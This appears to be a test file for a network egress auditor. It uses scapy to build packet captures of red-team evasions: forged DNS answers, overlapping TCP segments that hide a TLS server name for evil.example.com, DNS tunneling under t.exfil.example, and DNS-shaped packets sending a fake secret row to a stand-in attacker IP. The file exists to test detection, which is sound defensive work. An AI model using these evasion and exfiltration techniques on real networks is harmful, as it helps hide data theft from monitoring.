"""Packet-level evasions a red team reproduced against the probe, as pcaps written
here with scapy and read by the real engine (or `auditor probe --pcap` and
`auditor check`, as a person runs them). Pod CIDR 10.42/16, cluster DNS 10.43.0.10."""

from __future__ import annotations

import base64
import os
import subprocess
import sys
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, TCP, UDP
from scapy.packet import raw

from auditor.model import EgressEvent
from auditor.probe.dns import reverse_name
from auditor.rules import judge, load_pack
from auditor.store.base import open_store

from .traffic import Trace, client_hello, of_kind, run_trace

AUDITOR = [sys.executable, "-m", "auditor.cli"]
POD = "10.42.0.5"
DNS_SERVER = "10.43.0.10"
API_IP = "34.1.2.3"
ATTACKER = "6.6.6.6"
BULK = [b"\x17\x03\x03\x05\x70" + bytes(1395)] * 50  # 70 KB of application data after the hello


def _overlay(tmp_path: Path) -> Path:
    path = tmp_path / "site.yaml"
    path.write_text(
        "overlay:\n  id: red-team\n  description: evasion tests\n"
        "cluster:\n  pod_cidrs: [10.42.0.0/16]\n  service_cidrs: [10.43.0.0/16]\n  node_cidrs: [192.168.10.0/24]\n"
        "  dns:\n    servers: [10.43.0.10]\n    suffixes: [cluster.local]\n"
    )
    return path


def _probe_and_check(tmp_path: Path, t: Trace) -> tuple[list[EgressEvent], int, str]:
    """`auditor probe --pcap` into a store, then `auditor check` on it: the events and check's exit and output."""
    overlay = _overlay(tmp_path)
    store = tmp_path / "ev.db"
    pcap = t.write(tmp_path / "evasion.pcap")
    probe = subprocess.run([*AUDITOR, "probe", "--pcap", str(pcap), "--store", str(store), "--overlay", str(overlay)], capture_output=True, text=True, timeout=120)
    assert probe.returncode == 0, probe.stderr
    env = {**os.environ, "COLUMNS": "200"}  # rule ids on one line
    check = subprocess.run([*AUDITOR, "check", "--store", str(store), "--overlay", str(overlay)], capture_output=True, text=True, timeout=120, env=env)
    st = open_store(str(store), create=False)
    events = [e for e in st.events() if e.kind != "sensor"]
    st.close()
    return events, check.returncode, check.stdout


def _flows(events: list[EgressEvent], ip: str) -> list[EgressEvent]:
    return [e for e in events if e.kind == "flow" and ip in (e.destination.ip, e.source.ip)]


def _answer(src: str, dst: str, sport: int, dport: int, ident: int, qname: str, addr: str, qtype: str = "A") -> IP:
    rr = DNSRR(rrname=qname, type=qtype, rdata=addr, ttl=300)
    return IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / DNS(id=ident, qr=1, rd=1, ra=1, qd=DNSQR(qname=qname, qtype=qtype), an=rr)


def _query(src: str, dst: str, sport: int, ident: int, qname: str, qtype: str = "A") -> IP:
    return IP(src=src, dst=dst) / UDP(sport=sport, dport=53) / DNS(id=ident, rd=1, qd=DNSQR(qname=qname, qtype=qtype))


# ------------------------------------------------------------ 1. forged and early DNS answers


def test_a_forged_dns_answer_does_not_make_a_direct_connection_look_resolved(tmp_path: Path) -> None:
    t = Trace()
    t.dns(POD, DNS_SERVER, "artifacts.gretel.cloud", [("artifacts.gretel.cloud", "A", "34.1.2.4")])
    t.add(_answer(DNS_SERVER, POD, 53, 33333, 4242, "api.gretel.cloud", ATTACKER), dt=10)  # no query asked for it
    t.tcp(POD, ATTACKER, 443, [client_hello("api.gretel.cloud"), *BULK])
    events, code, out = _probe_and_check(tmp_path, t)
    (flow,) = _flows(events, ATTACKER)
    assert flow.flow.bytes_up > 70_000 and flow.destination.sni == "api.gretel.cloud"
    assert "direct-ip" in flow.observations and flow.flow.resolved_name is None
    (forged,) = [e for e in of_kind(events, "dns") if e.dns.qname == "api.gretel.cloud"]
    assert forged.observations == ["dns-unsolicited-answer"] and forged.dns.answers == [ATTACKER]
    assert code == 1 and "obs.direct-ip" in out and "obs.dns-unsolicited-answer" in out


def test_an_answer_explains_only_the_query_it_answers(tmp_path: Path) -> None:
    """Same id, client port and question, from the resolver asked, within the timeout;
    anything else is recorded and flagged, and its addresses stay unexplained."""
    t = Trace()
    t.dns(POD, DNS_SERVER, "artifacts.gretel.cloud", [("artifacts.gretel.cloud", "A", "34.1.2.4")])
    t.add(_answer(DNS_SERVER, POD, 53, 30001, 11, "api.gretel.cloud", "6.6.6.1"), dt=10)  # before its query
    t.add(_query(POD, DNS_SERVER, 30001, 11, "api.gretel.cloud"))
    t.add(_query(POD, DNS_SERVER, 30002, 12, "x.example"))
    t.add(_answer(DNS_SERVER, POD, 53, 30002, 12, "api.gretel.cloud", "6.6.6.2"))  # another question
    t.add(_query(POD, DNS_SERVER, 30003, 13, "api.gretel.cloud"))
    t.add(_answer("10.43.0.11", POD, 53, 30003, 13, "api.gretel.cloud", "6.6.6.3"))  # not the resolver asked
    t.add(_query(POD, DNS_SERVER, 30004, 14, "api.gretel.cloud"))
    t.add(_answer(DNS_SERVER, POD, 53, 30004, 14, "api.gretel.cloud", "6.6.6.4"), dt=8)  # after the 5 s timeout
    t.add(_query(POD, DNS_SERVER, 30005, 15, "api.gretel.cloud"))
    t.add(_answer(DNS_SERVER, POD, 53, 30005, 15, "api.gretel.cloud", API_IP))  # the real one
    t.add(_answer(DNS_SERVER, POD, 53, 30005, 15, "api.gretel.cloud", API_IP))  # captured twice
    t.add(_answer(DNS_SERVER, POD, 53, 30005, 15, "api.gretel.cloud", "6.6.6.5"))  # racing it with another address
    for i in range(1, 6):
        t.tcp(POD, f"6.6.6.{i}", 443, [client_hello("api.gretel.cloud")])
    t.tcp(POD, API_IP, 443, [client_hello("api.gretel.cloud")])
    events = run_trace(t, tmp_path)
    for i in range(1, 6):
        (flow,) = _flows(events, f"6.6.6.{i}")
        assert "direct-ip" in flow.observations and flow.flow.resolved_name is None, i
    (real,) = _flows(events, API_IP)
    assert real.observations == [] and real.flow.resolved_name == "api.gretel.cloud"
    flagged = {tuple(e.dns.answers) for e in of_kind(events, "dns") if "dns-unsolicited-answer" in e.observations}
    assert flagged == {("6.6.6.1",), ("6.6.6.2",), ("6.6.6.3",), ("6.6.6.4",), ("6.6.6.5",)}
    repeat = [e for e in of_kind(events, "dns") if "a repeat of the answer to this query" in e.notes]
    assert len(repeat) == 1 and repeat[0].observations == []


def test_answers_at_the_start_of_a_capture_follow_the_dns_warm_up(tmp_path: Path) -> None:
    """An answer in the capture's first seconds may answer a query sent before it: taken as
    resolving during the warm-up, never flagged; the flow comes after the warm-up ends."""

    def trace() -> Trace:
        t = Trace()
        t.add(_answer(DNS_SERVER, POD, 53, 30010, 21, "api.gretel.cloud", API_IP))
        t.add(IP(src=POD, dst="10.42.0.9") / UDP(sport=1, dport=2) / b"tick", dt=40)
        t.tcp(POD, API_IP, 443, [client_hello("api.gretel.cloud")])
        return t

    warm = run_trace(trace(), tmp_path, "warm.pcap", dns_warmup_s=30)
    (flow,) = _flows(warm, API_IP)
    assert flow.observations == [] and flow.flow.resolved_name == "api.gretel.cloud"
    cold = run_trace(trace(), tmp_path, "cold.pcap")
    (flow,) = _flows(cold, API_IP)
    assert "direct-ip" in flow.observations
    assert all(e.observations == [] for e in of_kind(warm + cold, "dns"))


# ------------------------------------------------------------ 2. a stray segment before the SYN


def test_a_stray_ack_before_the_syn_does_not_turn_off_direct_ip(tmp_path: Path) -> None:
    t = Trace()
    t.add(IP(src=POD, dst=ATTACKER) / TCP(sport=45555, dport=443, flags="A", seq=77, ack=1))
    t.tcp(POD, ATTACKER, 443, [client_hello("api.gretel.cloud"), *BULK], sport=45555)
    events, code, out = _probe_and_check(tmp_path, t)
    stray, real = sorted(_flows(events, ATTACKER), key=lambda e: e.flow.packets_up)
    assert stray.flow.packets_up == 1 and stray.flow.bytes_up == 0
    assert real.flow.bytes_up > 70_000 and real.flow.tcp_state == "closed" and real.destination.sni == "api.gretel.cloud"
    assert "direct-ip" in real.observations
    assert code == 1 and "obs.direct-ip" in out


def test_a_flow_without_a_syn_that_opens_with_a_client_hello_is_judged_for_direct_ip(tmp_path: Path) -> None:
    """A hello starts a connection: one seen well after the capture began did not begin before it."""
    t = Trace()
    t.add(IP(src=POD, dst="10.42.0.9") / UDP(sport=1, dport=2) / b"start")
    t.tcp(POD, ATTACKER, 443, [client_hello("api.gretel.cloud"), *BULK], handshake=False)
    t.t += 10
    t.tcp(POD, "6.6.6.7", 443, [client_hello("api.gretel.cloud"), *BULK], handshake=False)
    events = run_trace(t, tmp_path)
    (early,) = _flows(events, ATTACKER)  # within seconds of the start: its SYN may predate the capture
    assert "direct-ip" not in early.observations
    (late,) = _flows(events, "6.6.6.7")
    assert "direct-ip" in late.observations and late.destination.sni == "api.gretel.cloud"


# ------------------------------------------------------------ 3. TCP-level SNI hiding


def _handshake(t: Trace, sport: int, dst: str = API_IP, isn: int = 1000) -> None:
    t.add(IP(src=POD, dst=dst) / TCP(sport=sport, dport=443, flags="S", seq=isn))
    t.add(IP(src=dst, dst=POD) / TCP(sport=443, dport=sport, flags="SA", seq=5000, ack=isn + 1))
    t.add(IP(src=POD, dst=dst) / TCP(sport=sport, dport=443, flags="A", seq=isn + 1, ack=5001))


def _segment(t: Trace, sport: int, seq: int, data: bytes, dst: str = API_IP) -> None:
    t.add(IP(src=POD, dst=dst) / TCP(sport=sport, dport=443, flags="PA", seq=seq, ack=5001) / data)


def test_overlapping_segments_keep_the_first_copy_of_every_byte(tmp_path: Path) -> None:
    """The server keeps the first copy of bytes it holds out of order; so must the probe,
    or a later copy shows it an allowed name the server never read."""
    evil = client_hello("evil.example.com")
    cover = evil.replace(b"evil.example.com", b"api.gretel.cloud")  # the same hello naming an allowed host
    cut = evil.index(b"evil.example.com")
    t = Trace()
    t.dns(POD, DNS_SERVER, "api.gretel.cloud", [("api.gretel.cloud", "A", API_IP)])
    _handshake(t, 41001)  # a later copy at the same sequence number
    _segment(t, 41001, 1001 + cut, evil[cut:])
    _segment(t, 41001, 1001 + cut, cover[cut:])
    _segment(t, 41001, 1001, evil[:cut])
    _handshake(t, 41002)  # a later copy starting earlier, over the held bytes
    _segment(t, 41002, 1001 + cut, evil[cut:])
    _segment(t, 41002, 1001 + cut - 10, cover[cut - 10 :])
    _segment(t, 41002, 1001, evil[: cut - 10])
    _handshake(t, 41003)  # a later copy over bytes already taken in order
    _segment(t, 41003, 1001, evil[: cut + 20])
    _segment(t, 41003, 1001 + cut, cover[cut:])
    events = run_trace(t, tmp_path)
    flows = {e.source.port: e for e in of_kind(events, "flow") if e.destination.ip == API_IP}
    for port in (41001, 41002, 41003):
        assert flows[port].destination.sni == "evil.example.com", port
        assert "sni-dns-mismatch" in flows[port].observations, port


def test_a_syn_with_a_new_isn_after_the_handshake_does_not_hide_the_hello(tmp_path: Path) -> None:
    t = Trace()
    t.dns(POD, DNS_SERVER, "api.gretel.cloud", [("api.gretel.cloud", "A", API_IP)])
    _handshake(t, 41010)
    t.add(IP(src=POD, dst=API_IP) / TCP(sport=41010, dport=443, flags="S", seq=900_000))
    hello = client_hello("evil.example.com")
    _segment(t, 41010, 1001, hello[:50])
    _segment(t, 41010, 1051, hello[50:])
    events = run_trace(t, tmp_path)
    (flow,) = [e for e in of_kind(events, "flow") if e.destination.ip == API_IP]
    assert flow.destination.sni == "evil.example.com" and "sni-dns-mismatch" in flow.observations
    assert "SYN with a new ISN ignored: the connection was under way" in flow.notes


# ------------------------------------------------------------ 4. DNS over TCP in sequence order


def test_dns_over_tcp_follows_sequence_numbers_through_retransmissions(tmp_path: Path) -> None:
    def framed(name: str, ident: int) -> bytes:
        msg = raw(DNS(id=ident, rd=1, qd=DNSQR(qname=name, qtype="TXT")))
        return len(msg).to_bytes(2, "big") + msg

    first = framed("ok.gretel.cloud", 1)
    tunnel = [framed(base64.b32encode(bytes([i]) * 35).decode().lower().rstrip("=")[:56] + ".t.exfil.example", 100 + i) for i in range(30)]
    t = Trace()
    sport = 41020
    t.add(IP(src=POD, dst=DNS_SERVER) / TCP(sport=sport, dport=53, flags="S", seq=1000))
    t.add(IP(src=DNS_SERVER, dst=POD) / TCP(sport=53, dport=sport, flags="SA", seq=5000, ack=1001))
    seq = 1001
    segments = [(seq, first[:10]), (seq + 10, first[10:]), (seq, first[:10])]  # the first 10 bytes sent again
    seq += len(first)
    for msg in tunnel:
        segments.append((seq, msg))
        seq += len(msg)
    segments[-1], segments[-2] = segments[-2], segments[-1]  # and the last two out of order
    for s, data in segments:
        t.add(IP(src=POD, dst=DNS_SERVER) / TCP(sport=sport, dport=53, flags="PA", seq=s, ack=5001) / data)
    events = run_trace(t, tmp_path)
    names = [e.dns.qname for e in of_kind(events, "dns")]
    assert len(names) == 31 and names[0] == "ok.gretel.cloud"
    assert sum(1 for e in of_kind(events, "dns") if "dns-tunnel" in e.observations) == 30
    (flow,) = _flows(events, DNS_SERVER)
    assert "malformed" not in flow.observations


# ------------------------------------------------------------ 5. DNS-shaped data from a pod's port 53


def test_dns_between_a_pod_resolver_and_an_outside_host_is_kept_as_a_flow(tmp_path: Path) -> None:
    secret = DNSRR(rrname="x.example", type="TXT", rdata="SECRET-ROW-0001,alice@example.com,4111111111111111", ttl=60)
    t = Trace()
    t.dns(POD, DNS_SERVER, "api.gretel.cloud", [("api.gretel.cloud", "A", API_IP)])
    t.dns("10.42.0.2", "8.8.8.8", "api.gretel.cloud", [("api.gretel.cloud", "A", API_IP)])  # CoreDNS forwarding upstream
    for i in range(5):  # answer-shaped packets out of a pod's port 53
        t.add(IP(src=POD, dst=ATTACKER) / UDP(sport=53, dport=40000) / DNS(id=i, qr=1, qd=DNSQR(qname="x.example", qtype="TXT"), an=secret))
    t.add(_query("6.6.6.8", POD, 40001, 7, "x.example", "TXT"))  # an outside host querying a pod
    t.add(IP(src=POD, dst="6.6.6.8") / UDP(sport=53, dport=40001) / DNS(id=7, qr=1, qd=DNSQR(qname="x.example", qtype="TXT"), an=secret))
    t.add(IP(src=POD, dst="6.6.6.9") / UDP(sport=40002, dport=53) / DNS(id=8, qr=1, qd=DNSQR(qname="x.example", qtype="TXT"), an=secret))
    events = run_trace(t, tmp_path)
    (out53,) = _flows(events, ATTACKER)
    assert (out53.flow.direction, out53.source.ip, out53.source.port) == ("egress", POD, 53)
    assert out53.flow.packets_up == 5 and out53.flow.bytes_up > 5 * 60
    (served,) = _flows(events, "6.6.6.8")
    assert (served.flow.direction, served.source.ip, served.destination.port) == ("inbound", "6.6.6.8", 53)
    assert served.flow.packets_up == 1 and served.flow.packets_down == 1
    (to53,) = _flows(events, "6.6.6.9")
    assert (to53.flow.direction, to53.destination.port) == ("egress", 53)
    assert not _flows(events, DNS_SERVER) and not _flows(events, "8.8.8.8")  # lookups stay dns events alone
    judged = {e.destination.ip: e.decision for e in judge([out53, served, to53], load_pack())}
    assert all(d is not None and d.action == "violation" for d in judged.values())


# ------------------------------------------------------------ 6. reverse zones as a tunnel


def test_only_well_formed_reverse_names_are_exempt_from_tunnel_signs(tmp_path: Path) -> None:
    t = Trace()
    for i in range(60):
        label = base64.b32encode(bytes([i, 255 - i]) * 20).decode().lower()[:56]
        t.dns(POD, DNS_SERVER, f"{label}.d.ip6.arpa", qtype="PTR", answered=False)
    six = ".".join("0123456789abcdef0123456789abcdef") + ".ip6.arpa"
    for name in ("5.0.42.10.in-addr.arpa", "10.in-addr.arpa", six):
        t.dns(POD, DNS_SERVER, name, qtype="PTR", answered=False)
    events = run_trace(t, tmp_path)
    obs = {e.dns.qname: e.observations for e in of_kind(events, "dns")}
    assert sum(1 for n, o in obs.items() if n.endswith(".d.ip6.arpa") and "dns-tunnel" in o) == 60
    assert obs["5.0.42.10.in-addr.arpa"] == obs["10.in-addr.arpa"] == obs[six] == []
    assert not reverse_name("300.1.1.10.in-addr.arpa") and not reverse_name("1.2.3.4.5.in-addr.arpa")
    assert not reverse_name("ab.0.ip6.arpa") and not reverse_name(".".join("0" * 33) + ".ip6.arpa")
